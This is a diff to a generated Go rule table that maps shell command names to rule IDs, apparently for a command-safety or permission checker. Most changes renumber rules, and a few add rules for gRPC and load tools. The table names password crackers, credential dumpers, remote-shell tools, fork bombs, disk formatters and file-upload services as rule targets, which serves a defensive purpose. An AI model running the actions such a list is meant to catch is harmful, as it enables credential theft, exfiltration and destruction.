-				Rules:   []uint16{343, 363},
+				Rules:   []uint16{347, 367},
 			},
 			nameEntry{
 				Name: "enable",
@@ -10785,7 +10863,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "encore",
 				Program: -1,
-				Rules:   []uint16{27, 122, 146},
+				Rules:   []uint16{27, 126, 150},
 			},
 			nameEntry{
 				Name:    "enpass",
@@ -10803,7 +10881,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "env",
 				Program: 2,
-				Rules:   []uint16{335, 374, 375, 376},
+				Rules:   []uint16{339, 378, 379, 380},
 			},
 			nameEntry{
 				Name:    "env0",
@@ -10849,17 +10927,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "esxcli",
 				Program: -1,
-				Rules:   []uint16{171},
+				Rules:   []uint16{175},
 			},
 			nameEntry{
 				Name:    "et",
 				Program: -1,
-				Rules:   []uint16{325},
+				Rules:   []uint16{329},
 			},
 			nameEntry{
 				Name:    "etcdctl",
 				Program: 58,
-				Rules:   []uint16{90},
+				Rules:   []uint16{94},
 			},
 			nameEntry{
 				Name:    "ethtool",
@@ -10868,7 +10946,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "ettercap",
 				Program: -1,
-				Rules:   []uint16{40, 334},
+				Rules:   []uint16{40, 338},
 			},
 			nameEntry{
 				Name:    "eval",
@@ -10877,6 +10955,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "evans",
 				Program: 54,
+				Rules:   []uint16{58},
 			},
 			nameEntry{
 				Name:    "evil-winrm",
@@ -10909,7 +10988,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "exo",
 				Program: 61,
-				Rules:   []uint16{142, 185},
+				Rules:   []uint16{146, 189},
 			},
 			nameEntry{
 				Name:    "expand",
@@ -10921,7 +11000,7 @@ var shipped = Set{
 			},
 			nameEntry{
 				Name:  "export",
-				Rules: []uint16{207, 335, 374, 376},
+				Rules: []uint16{211, 339, 378, 380},
 			},
 			nameEntry{
 				Name:    "expr",
@@ -10930,7 +11009,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "extlinux",
 				Program: -1,
-				Rules:   []uint16{351},
+				Rules:   []uint16{355},
 			},
 			nameEntry{
 				Name:    "eyaml",
@@ -10944,7 +11023,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "fab",
 				Program: 45,
-				Rules:   []uint16{98, 127, 181},
+				Rules:   []uint16{102, 131, 185},
 			},
 			nameEntry{
 				Name:    "fabric",
@@ -10979,7 +11058,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "fcrontab",
 				Program: -1,
-				Rules:   []uint16{312},
+				Rules:   []uint16{316},
 			},
 			nameEntry{
 				Name:    "fd",
@@ -10992,7 +11071,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "fdisk",
 				Program: 64,
-				Rules:   []uint16{210},
+				Rules:   []uint16{214},
 			},
 			nameEntry{
 				Name:    "ffmpeg",
@@ -11005,12 +11084,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "ffsend",
 				Program: -1,
-				Rules:   []uint16{281, 290},
+				Rules:   []uint16{285, 294},
 			},
 			nameEntry{
 				Name:    "ffuf",
 				Program: -1,
-				Rules:   []uint16{334},
+				Rules:   []uint16{338},
 			},
 			nameEntry{
 				Name: "fg",
@@ -11047,17 +11126,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "firebase",
 				Program: 61,
-				Rules:   []uint16{18, 27, 124, 146},
+				Rules:   []uint16{18, 27, 128, 150},
 			},
 			nameEntry{
 				Name:    "firebase-tools",
 				Program: -1,
-				Rules:   []uint16{146},
+				Rules:   []uint16{150},
 			},
 			nameEntry{
 				Name:    "firefox-send",
 				Program: -1,
-				Rules:   []uint16{290},
+				Rules:   []uint16{294},
 			},
 			nameEntry{
 				Name:    "firejail",
@@ -11066,17 +11145,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "firewall-cmd",
 				Program: 64,
-				Rules:   []uint16{329},
+				Rules:   []uint16{333},
 			},
 			nameEntry{
 				Name:    "fish",
 				Program: 4,
-				Rules:   []uint16{301, 302, 346, 347},
+				Rules:   []uint16{305, 306, 350, 351},
 			},
 			nameEntry{
 				Name:    "fkill",
 				Program: 63,
-				Rules:   []uint16{326},
+				Rules:   []uint16{330},
 			},
 			nameEntry{
 				Name:    "flake8",
@@ -11085,17 +11164,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "flarectl",
 				Program: 61,
-				Rules:   []uint16{146},
+				Rules:   []uint16{150},
 			},
 			nameEntry{
 				Name:    "flashrom",
 				Program: -1,
-				Rules:   []uint16{351},
+				Rules:   []uint16{355},
 			},
 			nameEntry{
 				Name:    "flask",
 				Program: 45,
-				Rules:   []uint16{101, 104},
+				Rules:   []uint16{105, 108},
 			},
 			nameEntry{
 				Name:    "flatc",
@@ -11104,12 +11183,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "flatpak",
 				Program: 44,
-				Rules:   []uint16{343},
+				Rules:   []uint16{347},
 			},
 			nameEntry{
 				Name:    "flit",
 				Program: 32,
-				Rules:   []uint16{285},
+				Rules:   []uint16{289},
 			},
 			nameEntry{
 				Name:    "flock",
@@ -11118,27 +11197,27 @@ var shipped = Set{
 			nameEntry{
 				Name:    "flutter",
 				Program: 32,
-				Rules:   []uint16{285},
+				Rules:   []uint16{289},
 			},
 			nameEntry{
 				Name:    "flux",
 				Program: 61,
-				Rules:   []uint16{161},
+				Rules:   []uint16{165},
 			},
 			nameEntry{
 				Name:    "fly",
 				Program: 61,
-				Rules:   []uint16{17, 18, 27, 37, 124, 144, 185},
+				Rules:   []uint16{17, 18, 27, 37, 128, 148, 189},
 			},
 			nameEntry{
 				Name:    "flyctl",
 				Program: 61,
-				Rules:   []uint16{17, 18, 27, 37, 124, 144, 185},
+				Rules:   []uint16{17, 18, 27, 37, 128, 148, 189},
 			},
 			nameEntry{
 				Name:    "flyway",
 				Program: 48,
-				Rules:   []uint16{101, 104},
+				Rules:   []uint16{105, 108},
 			},
 			nameEntry{
 				Name:    "fmt",
@@ -11155,52 +11234,52 @@ var shipped = Set{
 			nameEntry{
 				Name:    "foreman",
 				Program: 45,
-				Rules:   []uint16{359},
+				Rules:   []uint16{363},
 			},
 			nameEntry{
 				Name:    "forever",
 				Program: 45,
-				Rules:   []uint16{359},
+				Rules:   []uint16{363},
 			},
 			nameEntry{
 				Name:    "forfiles",
 				Program: -1,
-				Rules:   []uint16{303},
+				Rules:   []uint16{307},
 			},
 			nameEntry{
 				Name:    "forge",
 				Program: 66,
-				Rules:   []uint16{146, 364},
+				Rules:   []uint16{150, 368},
 			},
 			nameEntry{
 				Name:    "forkbomb",
 				Program: -1,
-				Rules:   []uint16{337},
+				Rules:   []uint16{341},
 			},
 			nameEntry{
 				Name:    "format",
 				Program: 64,
-				Rules:   []uint16{210},
+				Rules:   []uint16{214},
 			},
 			nameEntry{
 				Name:    "format-volume",
 				Program: -1,
-				Rules:   []uint16{228},
+				Rules:   []uint16{232},
 			},
 			nameEntry{
 				Name:    "format.com",
 				Program: -1,
-				Rules:   []uint16{228},
+				Rules:   []uint16{232},
 			},
 			nameEntry{
 				Name:    "fossil",
 				Program: 50,
-				Rules:   []uint16{259},
+				Rules:   []uint16{263},
 			},
 			nameEntry{
 				Name:    "fpaste",
 				Program: -1,
-				Rules:   []uint16{281},
+				Rules:   []uint16{285},
 			},
 			nameEntry{
 				Name:    "fpc",
@@ -11217,7 +11296,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "frpc",
 				Program: -1,
-				Rules:   []uint16{272},
+				Rules:   []uint16{276},
 			},
 			nameEntry{
 				Name:    "fsck",
@@ -11226,32 +11305,32 @@ var shipped = Set{
 			nameEntry{
 				Name:    "fsutil",
 				Program: -1,
-				Rules:   []uint16{227},
+				Rules:   []uint16{231},
 			},
 			nameEntry{
 				Name:    "fsutil.exe",
 				Program: -1,
-				Rules:   []uint16{227},
+				Rules:   []uint16{231},
 			},
 			nameEntry{
 				Name:    "ftp",
 				Program: 56,
-				Rules:   []uint16{290, 291},
+				Rules:   []uint16{294, 295},
 			},
 			nameEntry{
 				Name:    "fuser",
 				Program: 63,
-				Rules:   []uint16{326},
+				Rules:   []uint16{330},
 			},
 			nameEntry{
 				Name:    "fwupdmgr",
 				Program: -1,
-				Rules:   []uint16{351},
+				Rules:   []uint16{355},
 			},
 			nameEntry{
 				Name:    "fwupdtool",
 				Program: -1,
-				Rules:   []uint16{351},
+				Rules:   []uint16{355},
 			},
 			nameEntry{
 				Name:    "fx",
@@ -11268,7 +11347,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "garden",
 				Program: -1,
-				Rules:   []uint16{122},
+				Rules:   []uint16{126},
 			},
 			nameEntry{
 				Name:    "gatsby",
@@ -11298,7 +11377,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "gcloud",
 				Program: 61,
-				Rules:   []uint16{18, 37, 124, 133, 134, 137, 138, 176, 178, 185, 280, 288, 290},
+				Rules:   []uint16{18, 37, 128, 137, 138, 141, 142, 180, 182, 189, 284, 292, 294},
 			},
 			nameEntry{
 				Name:    "gcloud-components",
@@ -11307,27 +11386,27 @@ var shipped = Set{
 			nameEntry{
 				Name:    "gcp",
 				Program: 18,
-				Rules:   []uint16{213},
+				Rules:   []uint16{217},
 			},
 			nameEntry{
 				Name:    "gcrane",
 				Program: -1,
-				Rules:   []uint16{288},
+				Rules:   []uint16{292},
 			},
 			nameEntry{
 				Name:    "gdb",
 				Program: 63,
-				Rules:   []uint16{373},
+				Rules:   []uint16{377},
 			},
 			nameEntry{
 				Name:    "gdisk",
 				Program: 64,
-				Rules:   []uint16{210},
+				Rules:   []uint16{214},
 			},
 			nameEntry{
 				Name:    "gdrive",
 				Program: -1,
-				Rules:   []uint16{290},
+				Rules:   []uint16{294},
 			},
 			nameEntry{
 				Name:    "gedit",
@@ -11336,17 +11415,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "gel",
 				Program: 58,
-				Rules:   []uint16{111},
+				Rules:   []uint16{115},
 			},
 			nameEntry{
 				Name:    "gem",
 				Program: 43,
-				Rules:   []uint16{37, 285, 286, 296, 297, 306},
+				Rules:   []uint16{37, 289, 290, 300, 301, 310},
 			},
 			nameEntry{
 				Name:    "gemini",
 				Program: 66,
-				Rules:   []uint16{364, 366},
+				Rules:   []uint16{368, 370},
 			},
 			nameEntry{
 				Name:    "gemini-cli",
@@ -11391,7 +11470,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "gh",
 				Program: 51,
-				Rules:   []uint16{18, 19, 27, 37, 149, 150, 151, 152, 276, 277, 278, 290, 345},
+				Rules:   []uint16{18, 19, 27, 37, 153, 154, 155, 156, 280, 281, 282, 294, 349},
 			},
 			nameEntry{
 				Name:    "gh-ost",
@@ -11406,6 +11485,11 @@ var shipped = Set{
 				Program: 45,
 			},
 			nameEntry{
+				Name:    "ghz",
+				Program: -1,
+				Rules:   []uint16{58},
+			},
+			nameEntry{
 				Name:    "gi",
 				Program: -1,
 				Rules:   []uint16{15},
@@ -11413,7 +11497,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "gigalixir",
 				Program: 61,
-				Rules:   []uint16{146},
+				Rules:   []uint16{150},
 			},
 			nameEntry{
 				Name:    "ginkgo",
@@ -11426,12 +11510,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "gist",
 				Program: -1,
-				Rules:   []uint16{290},
+				Rules:   []uint16{294},
 			},
 			nameEntry{
 				Name:    "git",
 				Program: 49,
-				Rules:   []uint16{26, 229, 230, 231, 232, 233, 234, 235, 236, 237, 238, 239, 240, 241, 242, 243, 244, 245, 246, 247, 248, 249, 250, 251, 252, 254, 255, 256, 257, 258, 261, 262, 263, 264, 265, 266},
+				Rules:   []uint16{26, 233, 234, 235, 236, 237, 238, 239, 240, 241, 242, 243, 244, 245, 246, 247, 248, 249, 250, 251, 252, 253, 254, 255, 256, 258, 259, 260, 261, 262, 265, 266, 267, 268, 269, 270},
 			},
 			nameEntry{
 				Name:    "git-crypt",
@@ -11441,12 +11525,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "git-filter-branch",
 				Program: -1,
-				Rules:   []uint16{253},
+				Rules:   []uint16{257},
 			},
 			nameEntry{
 				Name:    "git-filter-repo",
 				Program: 50,
-				Rules:   []uint16{253},
+				Rules:   []uint16{257},
 			},
 			nameEntry{
 				Name:    "git-grep",
@@ -11476,7 +11560,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "glab",
 				Program: 51,
-				Rules:   []uint16{18, 19, 27, 37, 149, 150, 151, 276, 277, 278, 290, 345},
+				Rules:   []uint16{18, 19, 27, 37, 153, 154, 155, 280, 281, 282, 294, 349},
 			},
 			nameEntry{
 				Name:    "gln",
@@ -11489,27 +11573,27 @@ var shipped = Set{
 			nameEntry{
 				Name:    "gmake",
 				Program: 29,
-				Rules:   []uint16{98},
+				Rules:   []uint16{102},
 			},
 			nameEntry{
 				Name:    "gmv",
 				Program: 19,
-				Rules:   []uint16{212},
+				Rules:   []uint16{216},
 			},
 			nameEntry{
 				Name:    "gnome-screenshot",
 				Program: -1,
-				Rules:   []uint16{284},
+				Rules:   []uint16{288},
 			},
 			nameEntry{
 				Name:    "go",
 				Program: 30,
-				Rules:   []uint16{296, 306},
+				Rules:   []uint16{300, 310},
 			},
 			nameEntry{
 				Name:    "gobuster",
 				Program: -1,
-				Rules:   []uint16{334},
+				Rules:   []uint16{338},
 			},
 			nameEntry{
 				Name:    "goenv",
@@ -11542,12 +11626,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "goose",
 				Program: 66,
-				Rules:   []uint16{101, 102, 104, 364, 366},
+				Rules:   []uint16{105, 106, 108, 368, 370},
 			},
 			nameEntry{
 				Name:    "gopass",
 				Program: 61,
-				Rules:   []uint16{23, 42, 175},
+				Rules:   []uint16{23, 42, 179},
 			},
 			nameEntry{
 				Name:    "gopls",
@@ -11556,7 +11640,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "goreleaser",
 				Program: 32,
-				Rules:   []uint16{285},
+				Rules:   []uint16{289},
 			},
 			nameEntry{
 				Name:    "gosec",
@@ -11569,7 +11653,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "govc",
 				Program: -1,
-				Rules:   []uint16{171},
+				Rules:   []uint16{175},
 			},
 			nameEntry{
 				Name:    "govulncheck",
@@ -11578,7 +11662,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "gpasswd",
 				Program: 64,
-				Rules:   []uint16{319},
+				Rules:   []uint16{323},
 			},
 			nameEntry{
 				Name:    "gpg",
@@ -11609,12 +11693,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "gradle",
 				Program: 33,
-				Rules:   []uint16{105, 285},
+				Rules:   []uint16{109, 289},
 			},
 			nameEntry{
 				Name:    "gradlew",
 				Program: 33,
-				Rules:   []uint16{105, 285},
+				Rules:   []uint16{109, 289},
 			},
 			nameEntry{
 				Name:    "graphite",
@@ -11627,7 +11711,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "gremlin",
 				Program: -1,
-				Rules:   []uint16{111},
+				Rules:   []uint16{115},
 			},
 			nameEntry{
 				Name:    "grep",
@@ -11637,7 +11721,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "gridscale",
 				Program: -1,
-				Rules:   []uint16{142},
+				Rules:   []uint16{146},
 			},
 			nameEntry{
 				Name:    "grm",
@@ -11646,7 +11730,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "grok",
 				Program: 66,
-				Rules:   []uint16{364},
+				Rules:   []uint16{368},
 			},
 			nameEntry{
 				Name:    "groovy",
@@ -11659,17 +11743,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "groupadd",
 				Program: 64,
-				Rules:   []uint16{319},
+				Rules:   []uint16{323},
 			},
 			nameEntry{
 				Name:    "groupdel",
 				Program: 64,
-				Rules:   []uint16{319},
+				Rules:   []uint16{323},
 			},
 			nameEntry{
 				Name:    "groupmod",
 				Program: -1,
-				Rules:   []uint16{319},
+				Rules:   []uint16{323},
 			},
 			nameEntry{
 				Name:    "groups",
@@ -11678,35 +11762,37 @@ var shipped = Set{
 			nameEntry{
 				Name:    "grpc_cli",
 				Program: 54,
+				Rules:   []uint16{58},
 			},
 			nameEntry{
 				Name:    "grpcurl",
 				Program: 54,
+				Rules:   []uint16{58},
 			},
 			nameEntry{
 				Name:    "grub-install",
 				Program: -1,
-				Rules:   []uint16{351},
+				Rules:   []uint16{355},
 			},
 			nameEntry{
 				Name:    "grub-mkconfig",
 				Program: -1,
-				Rules:   []uint16{351},
+				Rules:   []uint16{355},
 			},
 			nameEntry{
 				Name:    "grub2-install",
 				Program: -1,
-				Rules:   []uint16{351},
+				Rules:   []uint16{355},
 			},
 			nameEntry{
 				Name:    "grub2-mkconfig",
 				Program: -1,
-				Rules:   []uint16{351},
+				Rules:   []uint16{355},
 			},
 			nameEntry{
 				Name:    "grubby",
 				Program: -1,
-				Rules:   []uint16{351},
+				Rules:   []uint16{355},
 			},
 			nameEntry{
 				Name:    "grunt",
@@ -11731,12 +11817,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "gsudo",
 				Program: -1,
-				Rules:   []uint16{348},
+				Rules:   []uint16{352},
 			},
 			nameEntry{
 				Name:    "gsutil",
 				Program: 61,
-				Rules:   []uint16{133, 134, 138, 280, 290, 292},
+				Rules:   []uint16{137, 138, 142, 284, 294, 296},
 			},
 			nameEntry{
 				Name:    "gt",
@@ -11745,7 +11831,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "gtar",
 				Program: 24,
-				Rules:   []uint16{38, 225, 307},
+				Rules:   []uint16{38, 229, 311},
 			},
 			nameEntry{
 				Name:    "gtest",
@@ -11786,7 +11872,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "halt",
 				Program: 64,
-				Rules:   []uint16{327, 328},
+				Rules:   []uint16{331, 332},
 			},
 			nameEntry{
 				Name: "hash",
@@ -11794,7 +11880,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "hashcat",
 				Program: -1,
-				Rules:   []uint16{40, 334},
+				Rules:   []uint16{40, 338},
 			},
 			nameEntry{
 				Name:    "hashdump",
@@ -11804,7 +11890,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "hasura",
 				Program: 48,
-				Rules:   []uint16{101, 104, 146},
+				Rules:   []uint16{105, 108, 150},
 			},
 			nameEntry{
 				Name:    "hasura-cloud",
@@ -11813,12 +11899,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "hatch",
 				Program: 32,
-				Rules:   []uint16{98, 285},
+				Rules:   []uint16{102, 289},
 			},
 			nameEntry{
 				Name:    "hcloud",
 				Program: 61,
-				Rules:   []uint16{18, 142, 185, 345},
+				Rules:   []uint16{18, 146, 189, 349},
 			},
 			nameEntry{
 				Name:    "hdiutil",
@@ -11827,7 +11913,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "hdparm",
 				Program: 64,
-				Rules:   []uint16{210},
+				Rules:   []uint16{214},
 			},
 			nameEntry{
 				Name:    "head",
@@ -11840,12 +11926,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "helm",
 				Program: 61,
-				Rules:   []uint16{17, 36, 37, 124, 161, 285, 296},
+				Rules:   []uint16{17, 36, 37, 128, 165, 289, 300},
 			},
 			nameEntry{
 				Name:    "helmfile",
 				Program: 61,
-				Rules:   []uint16{124, 161},
+				Rules:   []uint16{128, 165},
 			},
 			nameEntry{
 				Name: "help",
@@ -11853,7 +11939,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "heroku",
 				Program: 61,
-				Rules:   []uint16{17, 18, 27, 37, 145, 185},
+				Rules:   []uint16{17, 18, 27, 37, 149, 189},
 			},
 			nameEntry{
 				Name:    "hex",
@@ -11870,6 +11956,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "hey",
 				Program: 36,
+				Rules:   []uint16{59},
 			},
 			nameEntry{
 				Name:    "hf",
@@ -11879,16 +11966,16 @@ var shipped = Set{
 			nameEntry{
 				Name:    "hg",
 				Program: 50,
-				Rules:   []uint16{259, 260},
+				Rules:   []uint16{263, 264},
 			},
 			nameEntry{
 				Name:    "hh.exe",
 				Program: -1,
-				Rules:   []uint16{303},
+				Rules:   []uint16{307},
 			},
 			nameEntry{
 				Name:  "history",
-				Rules: []uint16{206},
+				Rules: []uint16{210},
 			},
 			nameEntry{
 				Name:    "hive",
@@ -11909,7 +11996,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "host",
 				Program: 55,
-				Rules:   []uint16{275},
+				Rules:   []uint16{279},
 			},
 			nameEntry{
 				Name:    "hostname",
@@ -11918,7 +12005,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "hostnamectl",
 				Program: 64,
-				Rules:   []uint16{331},
+				Rules:   []uint16{335},
 			},
 			nameEntry{
 				Name:    "htmlq",
@@ -11931,12 +12018,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "http",
 				Program: 54,
-				Rules:   []uint16{292},
+				Rules:   []uint16{296},
 			},
 			nameEntry{
 				Name:    "http-server",
 				Program: 45,
-				Rules:   []uint16{293},
+				Rules:   []uint16{297},
 			},
 			nameEntry{
 				Name:    "httpd",
@@ -11957,7 +12044,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "hub",
 				Program: 49,
-				Rules:   []uint16{149, 229, 231, 276, 277, 290},
+				Rules:   []uint16{153, 233, 235, 280, 281, 294},
 			},
 			nameEntry{
 				Name:    "huggingface-cli",
@@ -11979,7 +12066,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "hwclock",
 				Program: -1,
-				Rules:   []uint16{352},
+				Rules:   []uint16{356},
 			},
 			nameEntry{
 				Name:    "hwinfo",
@@ -11992,7 +12079,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "hydra",
 				Program: -1,
-				Rules:   []uint16{40, 334},
+				Rules:   []uint16{40, 338},
 			},
 			nameEntry{
 				Name:    "hypercorn",
@@ -12005,17 +12092,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "ibmcloud",
 				Program: 61,
-				Rules:   []uint16{18, 36, 142, 185},
+				Rules:   []uint16{18, 36, 146, 189},
 			},
 			nameEntry{
 				Name:    "icacls",
 				Program: 64,
-				Rules:   []uint16{224, 226},
+				Rules:   []uint16{228, 230},
 			},
 			nameEntry{
 				Name:    "icacls.exe",
 				Program: -1,
-				Rules:   []uint16{226},
+				Rules:   []uint16{230},
 			},
 			nameEntry{
 				Name:    "iconv",
@@ -12036,12 +12123,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "iex",
 				Program: 45,
-				Rules:   []uint16{304},
+				Rules:   []uint16{308},
 			},
 			nameEntry{
 				Name:    "ifconfig",
 				Program: 55,
-				Rules:   []uint16{331},
+				Rules:   []uint16{335},
 			},
 			nameEntry{
 				Name:    "impacket-secretsdump",
@@ -12055,27 +12142,27 @@ var shipped = Set{
 			nameEntry{
 				Name:    "incus",
 				Program: 61,
-				Rules:   []uint16{171},
+				Rules:   []uint16{175},
 			},
 			nameEntry{
 				Name:    "infisical",
 				Program: 61,
-				Rules:   []uint16{23, 175},
+				Rules:   []uint16{23, 179},
 			},
 			nameEntry{
 				Name:    "influx",
 				Program: 58,
-				Rules:   []uint16{91, 111, 112},
+				Rules:   []uint16{95, 115, 116},
 			},
 			nameEntry{
 				Name:    "influxd",
 				Program: -1,
-				Rules:   []uint16{107},
+				Rules:   []uint16{111},
 			},
 			nameEntry{
 				Name:    "influxdb3",
 				Program: -1,
-				Rules:   []uint16{112},
+				Rules:   []uint16{116},
 			},
 			nameEntry{
 				Name:    "infracost",
@@ -12084,12 +12171,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "init",
 				Program: 64,
-				Rules:   []uint16{327},
+				Rules:   []uint16{331},
 			},
 			nameEntry{
 				Name:    "initctl",
 				Program: 64,
-				Rules:   []uint16{338},
+				Rules:   []uint16{342},
 			},
 			nameEntry{
 				Name:    "initdb",
@@ -12098,7 +12185,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "innochecksum",
 				Program: -1,
-				Rules:   []uint16{109},
+				Rules:   []uint16{113},
 			},
 			nameEntry{
 				Name:    "innoextract",
@@ -12107,12 +12194,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "insmod",
 				Program: 64,
-				Rules:   []uint16{320},
+				Rules:   []uint16{324},
 			},
 			nameEntry{
 				Name:    "install",
 				Program: 17,
-				Rules:   []uint16{213, 318},
+				Rules:   []uint16{217, 322},
 			},
 			nameEntry{
 				Name:    "install_name_tool",
@@ -12121,22 +12208,22 @@ var shipped = Set{
 			nameEntry{
 				Name:    "installutil",
 				Program: -1,
-				Rules:   []uint16{303},
+				Rules:   []uint16{307},
 			},
 			nameEntry{
 				Name:    "inv",
 				Program: 45,
-				Rules:   []uint16{98},
+				Rules:   []uint16{102},
 			},
 			nameEntry{
 				Name:    "invoke",
 				Program: 45,
-				Rules:   []uint16{98},
+				Rules:   []uint16{102},
 			},
 			nameEntry{
 				Name:    "invoke-expression",
 				Program: -1,
-				Rules:   []uint16{304},
+				Rules:   []uint16{308},
 			},
 			nameEntry{
 				Name:    "inxi",
@@ -12157,12 +12244,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "ip",
 				Program: 55,
-				Rules:   []uint16{331},
+				Rules:   []uint16{335},
 			},
 			nameEntry{
 				Name:    "ip6tables",
 				Program: 64,
-				Rules:   []uint16{329},
+				Rules:   []uint16{333},
 			},
 			nameEntry{
 				Name:    "iperf",
@@ -12175,12 +12262,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "ipfs",
 				Program: -1,
-				Rules:   []uint16{290},
+				Rules:   []uint16{294},
 			},
 			nameEntry{
 				Name:    "iptables",
 				Program: 64,
-				Rules:   []uint16{329},
+				Rules:   []uint16{333},
 			},
 			nameEntry{
 				Name:    "ipython",
@@ -12201,12 +12288,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "istioctl",
 				Program: 61,
-				Rules:   []uint16{161},
+				Rules:   []uint16{165},
 			},
 			nameEntry{
 				Name:    "iw",
 				Program: -1,
-				Rules:   []uint16{331},
+				Rules:   []uint16{335},
 			},
 			nameEntry{
 				Name:    "iwconfig",
@@ -12251,7 +12338,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "jj",
 				Program: 50,
-				Rules:   []uint16{259, 260},
+				Rules:   []uint16{263, 264},
 			},
 			nameEntry{
 				Name: "jobs",
@@ -12259,7 +12346,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "john",
 				Program: -1,
-				Rules:   []uint16{40, 334},
+				Rules:   []uint16{40, 338},
 			},
 			nameEntry{
 				Name:    "join",
@@ -12268,7 +12355,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "journalctl",
 				Program: 64,
-				Rules:   []uint16{206},
+				Rules:   []uint16{210},
 			},
 			nameEntry{
 				Name:    "jq",
@@ -12285,12 +12372,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "jsr",
 				Program: -1,
-				Rules:   []uint16{285},
+				Rules:   []uint16{289},
 			},
 			nameEntry{
 				Name:    "juju",
 				Program: 61,
-				Rules:   []uint16{172, 173, 174},
+				Rules:   []uint16{176, 177, 178},
 			},
 			nameEntry{
 				Name:    "jules",
@@ -12307,22 +12394,22 @@ var shipped = Set{
 			nameEntry{
 				Name:    "just",
 				Program: 45,
-				Rules:   []uint16{98, 99},
+				Rules:   []uint16{102, 103},
 			},
 			nameEntry{
 				Name:    "k",
 				Program: 61,
-				Rules:   []uint16{22, 153, 154, 155, 156, 157, 158, 159, 160},
+				Rules:   []uint16{22, 157, 158, 159, 160, 161, 162, 163, 164},
 			},
 			nameEntry{
 				Name:    "k0s",
 				Program: -1,
-				Rules:   []uint16{176},
+				Rules:   []uint16{180},
 			},
 			nameEntry{
 				Name:    "k3d",
 				Program: 61,
-				Rules:   []uint16{179},
+				Rules:   []uint16{183},
 			},
 			nameEntry{
 				Name:    "k3s",
@@ -12343,7 +12430,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "kamal",
 				Program: 61,
-				Rules:   []uint16{27, 122, 124},
+				Rules:   []uint16{27, 126, 128},
 			},
 			nameEntry{
 				Name:    "karma",
@@ -12352,17 +12439,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "katapult",
 				Program: -1,
-				Rules:   []uint16{142},
+				Rules:   []uint16{146},
 			},
 			nameEntry{
 				Name:    "kcat",
 				Program: -1,
-				Rules:   []uint16{107},
+				Rules:   []uint16{111},
 			},
 			nameEntry{
 				Name:    "kdig",
 				Program: 55,
-				Rules:   []uint16{275},
+				Rules:   []uint16{279},
 			},
 			nameEntry{
 				Name:    "keepassxc-cli",
@@ -12377,12 +12464,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "kexec",
 				Program: 64,
-				Rules:   []uint16{320, 348},
+				Rules:   []uint16{324, 352},
 			},
 			nameEntry{
 				Name:    "kextload",
 				Program: -1,
-				Rules:   []uint16{320, 362},
+				Rules:   []uint16{324, 366},
 			},
 			nameEntry{
 				Name:    "keychain",
@@ -12391,7 +12478,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "keydb-cli",
 				Program: 58,
-				Rules:   []uint16{85, 87, 88, 115},
+				Rules:   []uint16{89, 91, 92, 119},
 			},
 			nameEntry{
 				Name:    "keyring",
@@ -12401,32 +12488,32 @@ var shipped = Set{
 			nameEntry{
 				Name:    "keytool",
 				Program: 64,
-				Rules:   []uint16{29, 344},
+				Rules:   []uint16{29, 348},
 			},
 			nameEntry{
 				Name:    "kill",
 				Program: 63,
-				Rules:   []uint16{321, 322, 323, 326, 372, 373},
+				Rules:   []uint16{325, 326, 327, 330, 376, 377},
 			},
 			nameEntry{
